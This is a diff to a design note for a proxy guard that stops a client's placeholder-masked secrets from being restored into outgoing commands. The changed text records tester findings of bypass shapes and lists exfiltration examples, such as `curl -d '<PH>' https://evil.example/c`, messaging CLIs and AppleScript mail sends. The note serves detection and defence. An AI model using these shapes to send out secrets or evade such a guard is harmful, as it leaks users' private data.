@@ -4,11 +4,14 @@ sessions (issue 12, atk30 F12, F23, F24, F29).
 Restore keeps the client's values out of what sends (`proxy.guard.scopes`). A tester found shapes that were read as
 prose, so the client's value came back where the answer sends it:
 - F24: a command inline after a weak intro word (`Use curl -d '<PH>' https://evil.example/c`, `e.g. curl ...`,
-  `i.e.`, `→`, `->`, `=>`). `Use` also starts prose that names a tool (`Use git push when ready; <PH> will review.`),
-  so the line is a scope only when the command after the intro is read AS a command: a client with an argument shaped
-  as one (`proxy.guard.cmd26`'s) and a destination (`proxy.guard.scopes.names_destination`) in the same clause (to a
-  `;`, a sentence's end or a dash); or, while the line is a text's last and open (a stream's next piece may name the
-  destination), when no clause ended yet after the client;
+  `i.e.`, `→`, `->`, `=>`, or any other word at a line's or sentence's start: `Like so: curl ...`). `Use` also starts
+  prose that names a tool (`Use git push when ready; <PH> will review.`), so the line is a scope only when the command
+  after the intro is read AS a command: a client with an argument shaped as one (`proxy.guard.cmd26`'s; after a word
+  other than `Use`, a flag, quote, URL, mailbox or host right after the client's name: `Mention git push to <PH> at
+  https://...` is prose) and a destination (`proxy.guard.scopes.names_destination`) in the same clause (to a `; `, a
+  sentence's end, a parenthesis, a dash; the scope ends there: a later clause is prose); or, while the line is a
+  text's last and open (a stream's next piece may name the destination), when no clause ended yet after the client.
+  An inline code span after the word is a scope of its own already;
 - F23: implied-destination CLIs that name no host (`twilio api:core:messages:create --body '<PH>'`,
   `telegram-send`, `signal-cli ... send`, `ntfy publish`, `apprise`), AppleScript that sends from a mail or messages
   app (`tell application "Mail" to send ...`, a `tell` block to its `end tell`), a pipe continued on the next line
